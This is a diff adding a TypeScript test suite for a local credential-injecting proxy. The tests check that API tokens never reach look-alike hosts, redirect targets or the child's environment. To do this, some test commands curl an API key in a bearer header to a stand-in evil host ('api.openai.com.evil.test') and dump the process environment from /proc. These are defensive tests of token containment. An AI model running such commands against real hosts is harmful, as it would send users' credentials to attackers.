@@ -1,0 +1,109 @@
+// What the proxy must never do: serve a process without the run's credential, send a token to
+// a host it is not routed to (look-alikes, redirects), or put a secret in the child's environment.
+import { after, before, test } from "node:test";
+import assert from "node:assert/strict";
+import { once } from "node:events";
+import { existsSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { proxyFixture, SECRETS, seen, type ProxyFixture } from "./fixtures.js";
+
+let fx: ProxyFixture;
+before(async () => {
+  fx = await proxyFixture();
+});
+after(async () => {
+  await fx.peer.close();
+});
+
+const ALL_SECRETS = Object.entries(SECRETS).filter(([k]) => k !== "xConsumerKey").map(([, v]) => v);
+
+function assertNoSecret(text: string, where: string): void {
+  for (const secret of ALL_SECRETS) assert.ok(!text.includes(secret), `${where} holds a secret`);
+}
+
+test("a process without the proxy credential gets 407, with a wrong one too", async () => {
+  const script = [
+    'P="${HTTPS_PROXY#http://*@}"', // 127.0.0.1:PORT without the credential
+    'curl -s -o /dev/null -w "%{http_connect}\\n" --proxy "http://$P" https://api.openai.com/v1/no-auth',
+    'curl -s -o /dev/null -w "%{http_connect}\\n" --proxy "http://authsome:wrong@$P" https://other.test/wrong-auth',
+    'curl -s -o /dev/null -w "%{http_code}\\n" --proxy "http://$P" http://other.test/plain',
+    "true",
+  ].join("; ");
+  const r = await fx.run(["sh", "-c", script]);
+  assert.equal(r.code, 0, r.stderr);
+  assert.deepEqual(r.stdout.trim().split("\n"), ["407", "407", "407"]);
+  assert.equal(fx.peer.requests.length, 0, "nothing reached the service");
+});
+
+test("a look-alike host is tunnelled untouched: no token, the child's own TLS", async () => {
+  const own = `--cacert ${fx.peer.caFile} --cert ${fx.peer.clientCertFile} --key ${fx.peer.clientKeyFile}`;
+  const r = await fx.run(["sh", "-c", `curl -sS --fail ${own} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com.evil.test/v1/lookalike`]);
+  assert.equal(r.code, 0, r.stderr);
+  const q = seen(fx.peer, "/v1/lookalike");
+  assert.equal(q.sni, "api.openai.com.evil.test");
+  assert.equal(q.headers.authorization, "Bearer authsome-proxy-managed");
+  assert.equal(q.clientCert, true, "the peer saw the child's handshake (a client certificate only the child has)");
+});
+
+test("a redirect to another host never carries the token, even when the client re-sends headers", async () => {
+  // other.test is not routed: tunnelled, so the child checks its certificate itself (bundle + peer CA)
+  const r = await fx.run([
+    "sh",
+    "-c",
+    `cat "$SSL_CERT_FILE" ${fx.peer.caFile} > "$(dirname "$SSL_CERT_FILE")/with-peer.pem" && curl -sS --fail -L --location-trusted --cacert "$(dirname "$SSL_CERT_FILE")/with-peer.pem" -H "Authorization: Bearer $OPENAI_API_KEY" "https://api.openai.com/redirect?to=https://other.test/landing"`,
+  ]);
+  assert.equal(r.code, 0, r.stderr);
+  assert.equal(seen(fx.peer, "/redirect?to=https://other.test/landing").headers.authorization, `Bearer ${SECRETS.openai}`);
+  const landing = seen(fx.peer, "/landing");
+  assert.equal(landing.host, "other.test");
+  assert.equal(landing.headers.authorization, "Bearer authsome-proxy-managed");
+  assert.equal(landing.clientCert, false);
+});
+
+test("no secret in the child's /proc/<pid>/environ; placeholders for the injected providers", async () => {
+  const r = await fx.run(["sh", "-c", 'tr "\\0" "\\n" < /proc/$$/environ; echo "CA_DIR=$(dirname "$SSL_CERT_FILE")"; ls -la "$(dirname "$SSL_CERT_FILE")"'], {
+    env: { X_CLIENT_SECRET: "client-secret-from-parent", X_API_SECRET: "consumer-secret-from-parent" },
+  });
+  assert.equal(r.code, 0, r.stderr);
+  assertNoSecret(r.stdout, "the child's environment");
+  assert.doesNotMatch(r.stdout, /from-parent/, "client secrets of injected providers are removed");
+  for (const name of ["OPENAI_API_KEY", "X_ACCESS_TOKEN", "X_REFRESH_TOKEN", "GITHUB_ACCESS_TOKEN", "GITLOCAL_TOKEN"]) {
+    assert.match(r.stdout, new RegExp(`^${name}=authsome-proxy-managed$`, "m"));
+  }
+  for (const name of ["HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"]) assert.match(r.stdout, new RegExp(`^${name}=http://authsome:[0-9a-f]{48}@127\\.0\\.0\\.1:\\d+$`, "m"));
+  assert.match(r.stdout, /^NO_PROXY=.*localhost,127\.0\.0\.1,::1$/m);
+  assert.match(r.stdout, /^NODE_USE_ENV_PROXY=1$/m);
+  assert.match(r.stdout, /^NODE_OPTIONS=--require ".*fetch-preload\.cjs"$/m);
+  for (const name of ["SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "AWS_CA_BUNDLE", "DENO_CERT", "CARGO_HTTP_CAINFO"]) {
+    assert.match(r.stdout, new RegExp(`^${name}=/.*/ca-bundle\\.pem$`, "m"));
+  }
+  // private files in a private directory, gone after the run
+  const dir = /^CA_DIR=(.*)$/m.exec(r.stdout)![1]!;
+  assert.match(r.stdout, /^drwx------ .* \.$/m);
+  assert.match(r.stdout, /^-rw------- .* ca-bundle\.pem$/m);
+  assert.match(r.stdout, /^-rw------- .* run-ca\.pem$/m);
+  assert.equal(existsSync(dir), false);
+  assertNoSecret(r.stderr, "authsome's own output");
+});
+
+test("plain http is forwarded but never injected", async () => {
+  const seenHere: Array<string | undefined> = [];
+  const server = createServer((req, res) => {
+    seenHere.push(req.headers.authorization);
+    res.end("plain");
+  });
+  server.listen(0, "127.0.0.1");
+  await once(server, "listening");
+  const port = (server.address() as AddressInfo).port;
+  try {
+    const r = await fx.run(["sh", "-c", 'curl -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" http://api.openai.com/v1/plain'], {
+      options: ["--resolve", `api.openai.com:80:127.0.0.1:${port}`],
+    });
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(r.stdout, "plain");
+    assert.deepEqual(seenHere, ["Bearer authsome-proxy-managed"]);
+  } finally {
+    server.close();
+  }
+});
